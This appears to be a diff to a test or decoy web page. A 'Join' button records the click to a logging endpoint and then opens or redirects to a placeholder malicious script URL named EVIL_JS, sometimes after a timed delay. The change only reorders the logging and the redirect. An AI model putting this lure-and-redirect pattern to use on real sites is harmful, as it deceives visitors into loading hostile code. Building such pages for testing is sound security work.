@@ -60,9 +60,10 @@ if (cfg.mode === 'login') {
     slot.innerHTML = '<button id="join">Join</button>';
     document.getElementById('join').onclick = () => {
       if (cfg.mode === 'popup') { window.open(EVIL_JS, '_blank'); return; }
-      fetch('/__rec/room-join', {keepalive: true});
-      slot.innerHTML = '<p class="live">You\'re in. Live now.</p>';
-      if (cfg.wander_ms !== null) setTimeout(() => { location.href = EVIL_JS; }, cfg.wander_ms);
+      fetch('/__rec/room-join').finally(() => {  // recorded before the button goes
+        slot.innerHTML = '<p class="live">You\'re in. Live now.</p>';
+        if (cfg.wander_ms !== null) setTimeout(() => { location.href = EVIL_JS; }, cfg.wander_ms);
+      });
     };
   }, 300);
 }
